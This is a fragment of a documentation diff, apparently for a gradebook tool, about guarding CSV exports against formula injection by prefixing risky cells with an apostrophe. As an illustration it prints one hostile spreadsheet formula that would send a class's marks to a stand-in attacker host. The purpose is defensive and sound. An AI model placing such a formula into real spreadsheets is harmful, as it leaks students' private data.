@@ -3,7 +3,7 @@ published with the book, the link report), so no cell that a spreadsheet opens c
 id such as ``=HYPERLINK("https://attacker.example/?"&C2:C99, "click")`` would otherwise send a class's marks
 away with one click.
 
-A text cell that starts as a formula does (peacebook.cells.starts_a_formula: = + - @, a tab or a carriage
+A text cell that starts as a formula does (peacebook.data.cells.starts_a_formula: = + - @, a tab or a carriage
 return) is written with an apostrophe in front, which spreadsheets show as text (OWASP's advice on CSV
 injection). A plain number (``-3``, ``+1.5``, ``2e-3``) is written as it is: a spreadsheet reads it as the
 number, and a negative number stays a number. `read_csv` takes the apostrophe off again.
